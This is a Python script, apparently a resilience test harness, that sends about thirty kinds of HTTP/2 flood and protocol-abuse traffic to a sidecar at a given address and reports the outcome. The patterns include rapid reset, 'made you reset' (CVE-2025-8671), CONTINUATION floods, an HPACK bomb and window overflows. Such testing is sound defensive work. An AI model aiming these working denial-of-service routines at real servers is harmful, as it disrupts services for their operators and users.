"""Floods a sidecar with HTTP/2 frames: `h2_flood.py ATTACK HOST:PORT [SVID]`. Prints how the connection fared, as JSON."""

import json
import os
import struct
import sys
import time

from h2_peer import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY, PUSH, RST,
                     SETTINGS, WINDOW, Peer, frame)

# Each attack ends by itself after so long, where the sidecar only bears it.
LONG = 1.0


def until_gone(peer, pieces, limit=LONG):
    """Sends pieces as fast as they are taken, and reads in between, until the other side ends it."""
    end, sent = time.monotonic() + limit, 0
    for piece in pieces:
        if time.monotonic() > end or not peer.send(piece):
            break
        sent += 1
        if sent % 16 == 0:
            peer.read()
        if peer.goaway is not None or peer.closed:
            break
    peer.read(1.0, until=lambda: peer.goaway is not None or peer.closed)
    return sent


def streams():
    return range(1, 2**31, 2)


def rapid_reset(peer):
    cancel = struct.pack(">I", 8)
    return until_gone(peer, (peer.request(stream) + frame(RST, 0, stream, cancel) for stream in streams()))


def made_you_reset(peer):
    """Faults that make the server reset (CVE-2025-8671): a window of nothing more, on each of many streams."""
    nothing = struct.pack(">I", 0)
    return until_gone(peer, (peer.request(stream) + frame(WINDOW, 0, stream, nothing) for stream in streams()))


def made_you_reset_by_data(peer):
    """The same with DATA behind the stream's end."""
    return until_gone(peer, (peer.request(stream) + frame(DATA, 0, stream, b"x") for stream in streams()))


def made_you_reset_by_window(peer):
    """The same with a window that overflows."""
    most = struct.pack(">I", 0x7FFFFFFF)
    return until_gone(peer, (peer.request(stream) + frame(WINDOW, 0, stream, most) for stream in streams()))


def made_you_reset_by_headers(peer):
    """The same with requests that are malformed."""
    wrong = peer.head(more=[("connection", "close")])
    return until_gone(peer, (peer.request(stream, wrong) for stream in streams()))


def continuation(peer):
    peer.send(peer.request(1, flags=END_STREAM))
    piece = peer.encoder.encode([(f"x-{n}", "y" * 100) for n in range(100)], huffman=False)
    return until_gone(peer, (frame(CONTINUATION, 0, 1, piece[:16000]) for _ in range(1_000_000)))


def empty_continuation(peer):
    peer.send(peer.request(1, flags=END_STREAM))
    return until_gone(peer, (frame(CONTINUATION, 0, 1) * 64 for _ in range(1_000_000)))


def hpack_bomb(peer):
    """One long entry of the table, named thousands of times: a small block, a huge list."""
    fill = peer.encoder.encode(peer.head(more=[("x-bomb", "b" * 4000)]))
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, fill))
    bomb = peer.encoder.encode(peer.head()) + b"\xbe" * 16000
    return until_gone(peer, (frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb) for stream in streams() if stream > 1))


def table_thrash(peer):
    """Header blocks that resize the table for ever, and settings that do."""
    resize = b"\x20\x3f\xe1\x1f" * 2000
    def pieces():
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, resize + peer.encoder.encode(peer.head()))
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 65536))
    return until_gone(peer, pieces())


def empty_data(peer):
    peer.send(peer.request(1, peer.head(method="POST"), flags=END_HEADERS))
    return until_gone(peer, (frame(DATA, 0, 1) * 256 for _ in range(1_000_000)))


def one_byte_data(peer):
    peer.send(peer.request(1, peer.head(method="POST"), flags=END_HEADERS))
    return until_gone(peer, (frame(DATA, 0, 1, b"x") * 64 for _ in range(1_000_000)))


def padded_data(peer):
    """255 bytes of padding around nothing."""
    peer.send(peer.request(1, peer.head(method="POST"), flags=END_HEADERS))
    return until_gone(peer, (frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 16 for _ in range(1_000_000)))


def settings(peer):
    return until_gone(peer, (frame(SETTINGS, 0, 0, struct.pack(">HI", 3, n % 100)) * 64 for n in range(1_000_000)))


def settings_unread(peer):
    """Whoever sends for ever and reads nothing must not make the other side hold what it would answer."""
    peer.socket.settimeout(1.0)
    sent, end = 0, time.monotonic() + LONG
    while time.monotonic() < end and peer.send(frame(SETTINGS, 0, 0) * 256):
        sent += 256
    return sent


def ping(peer):
    return until_gone(peer, (frame(PING, 0, 0, os.urandom(8)) * 64 for _ in range(1_000_000)))


def ping_unread(peer):
    peer.socket.settimeout(1.0)
    sent, end = 0, time.monotonic() + LONG
    while time.monotonic() < end and peer.send(frame(PING, 0, 0, b"12345678") * 256):
        sent += 256
    return sent


def priority(peer):
    return until_gone(peer, (
        b"".join(frame(PRIORITY, 0, 1 + 2 * (n + m), struct.pack(">IB", 1 + 2 * (n * 7 + m) % 999, 16)) for m in range(64))
        for n in range(1_000_000)))


def zero_window(peer):
    """Asks a hundred times for what it never lets come."""
    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    for stream in range(1, 200, 2):
        peer.send(peer.request(stream, peer.head("/big")))
    peer.read(LONG)
    return 100


def window_overflow(peer):
    peer.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def initial_window_overflow(peer):
    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x80000000)))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def push(peer):
    peer.send(peer.request(1, flags=END_HEADERS))
    peer.send(frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + peer.encoder.encode(peer.head())))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def too_much_padding(peer):
    peer.send(peer.request(1, peer.head(method="POST"), flags=END_HEADERS))
    peer.send(frame(DATA, PADDED, 1, b"\xff" + b"x"))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def last_stream_first(peer):
    """The greatest stream there can be; what comes after it is too late."""
    peer.send(peer.request(0x7FFFFFFF))
    peer.read(1.0, until=lambda: peer.statuses)
    peer.send(peer.request(1))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 2


def even_stream(peer):
    peer.send(peer.request(2))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def huge_frame(peer):
    peer.send(b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1) + bytes(100_000))
    peer.read(3.0, until=lambda: peer.goaway is not None or peer.closed)
    return 1


def many_streams(peer):
    """More streams at once than the settings permit, none of them ever ended."""
    return until_gone(peer, (peer.request(stream, peer.head(method="POST"), flags=END_HEADERS) for stream in streams()))


def half_open(peer):
    """Half a preface that never goes on, whatever it is answered."""
    peer.take = lambda: None
    peer.read(10.0, until=lambda: peer.closed or peer.goaway is not None)
    return 0


def main():
    attack, address, svid = sys.argv[1], sys.argv[2], (sys.argv[3:] or [None])[0]
    peer = Peer(address, svid, preface=attack != "half_open")
    if attack == "half_open":
        peer.send(PREFACE[:18])
    else:
        # Settings come first.
        peer.read(0.2)
    began = time.monotonic()
    sent = globals()[attack](peer)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - began, 2), **peer.told()}))


main()
